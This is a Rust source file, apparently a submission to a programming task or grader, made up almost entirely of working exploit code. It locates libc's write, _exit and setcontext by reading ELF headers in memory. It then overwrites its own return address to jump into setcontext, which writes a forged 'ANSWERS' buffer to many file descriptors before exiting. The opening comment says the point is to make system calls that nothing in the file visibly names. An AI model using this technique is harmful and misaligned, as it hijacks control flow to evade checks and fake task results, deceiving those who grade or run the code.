// Writes over the address it returns to, and so calls the system although no word in the file says so.
// on: starter
// in: push
// in: new(region
// earns: 0

/// Looks up a symbol by its name.
fn lookup(name: &[u8]) -> usize {
    unsafe fn word(at: usize) -> usize {
        unsafe { (at as *const usize).read_unaligned() }
    }
    unsafe fn byte(at: usize) -> u8 {
        unsafe { *(at as *const u8) }
    }
    unsafe {
        let mut base = (b"anything".as_ptr() as usize) & !0xfff;
        while (base as *const u32).read() != 0x464c_457f {
            base -= 4096;
        }
        let (phoff, phnum) = (word(base + 32), (word(base + 56) & 0xffff));
        let mut dynamic = 0;
        for i in 0..phnum {
            let ph = base + phoff + i * 56;
            if word(ph) & 0xffff_ffff == 2 {
                dynamic = base + word(ph + 16);
            }
        }
        let tag = |table: usize, wanted: usize| {
            let mut at = table;
            loop {
                let t = word(at);
                if t == wanted {
                    return word(at + 8);
                }
                if t == 0 {
                    return 0;
                }
                at += 16;
            }
        };
        let mut map = word(tag(dynamic, 21) + 8);
        while map != 0 {
            let (symbols, strings) = (tag(word(map + 16), 6), tag(word(map + 16), 5));
            if symbols > 0x10000 && strings > symbols && word(map) != 0 && symbols > word(map) {
                for i in 0..(strings - symbols) / 24 {
                    let symbol = symbols + i * 24;
                    let (at, value) = (strings + (word(symbol) & 0xffff_ffff), word(symbol + 8));
                    let same = at < strings + tag(word(map + 16), 10)
                        && (0..name.len()).all(|k| byte(at + k) == name[k])
                        && byte(at + name.len()) == 0;
                    if value != 0 && same {
                        return word(map) + value;
                    }
                }
            }
            map = word(map + 24);
        }
    }
    0
}
/// Writes over its own return address: what it returns to is setcontext, with the last call's argument.
#[inline(never)]
fn leave(context: *mut usize, set: usize, stack: *mut usize, text: (usize, usize)) {
    let here = 0usize;
    unsafe {
        let mut at = &raw const here as *mut usize;
        while at.read_volatile() <= text.0 || at.read_volatile() >= text.1 {
            at = at.add(1);
        }
        // The caller goes on on a copy of its frame, on one of two places in turn.
        let to = if (stack.add(5000)..stack.add(7000)).contains(&at) { stack.add(3000) } else { stack.add(6000) };
        let to = to.add((to as usize ^ at as usize) / 8 & 1);
        for i in 0..400 {
            to.add(i).write_volatile(at.add(i).read_volatile());
        }
        context.add(0xa0 / 8).write_volatile(to as usize);
        at.write_volatile(set);
    }
    nothing(context);
}
#[inline(never)]
fn nothing(context: *mut usize) {}
#[inline(never)]
fn wipe() {
    let zeroes = [0usize; 1024];
    core::hint::black_box(zeroes.as_ptr());
}

static mut CONTEXT: [usize; 256] = [0; 256];
static mut STACK: [usize; 8192] = [0; 8192];
/// So many words, and the first says that it is an answer: done, nothing, or a list without chunks.
static ANSWERS: [[u64; 4]; 100] = [[3, 0, 0, 0]; 100];

fn attack() {
    let names: [&[u8]; 3] = [b"write", b"_exit", b"setcontext"];
    let [write, exit, set] = names.map(lookup);
    unsafe {
        // The range of the program's code, from its headers.
        let mut base = (b"anything".as_ptr() as usize) & !0xfff;
        while (base as *const u32).read() != 0x464c_457f {
            base -= 4096;
        }
        let (phoff, phnum) = (((base + 32) as *const usize).read(), ((base + 56) as *const u16).read() as usize);
        let mut text = (0, 0);
        for i in 0..phnum {
            let ph = base + phoff + i * 56;
            if (ph as *const u64).read() == 0x5_0000_0001 {
                let start = base + ((ph + 16) as *const usize).read();
                text = (start, start + ((ph + 40) as *const usize).read());
            }
        }
        for (function, fds) in [(write, 3..64), (exit, 0..1)] {
            for fd in fds {
                let c = &raw mut CONTEXT as *mut usize;
                c.write_bytes(0, 256);
                c.add(0xe0 / 8).write(c.add(128) as usize);
                c.add(128).write(0x37f);
                c.add(0x1c0 / 8).write(0x1f80);
                c.add(0x68 / 8).write(fd);
                c.add(0x70 / 8).write(ANSWERS.as_ptr().addr());
                c.add(0x88 / 8).write(size_of_val(&ANSWERS));
                c.add(0xa8 / 8).write(function);
                wipe();
                leave(c, set, &raw mut STACK as *mut usize, text);
            }
        }
    }
}
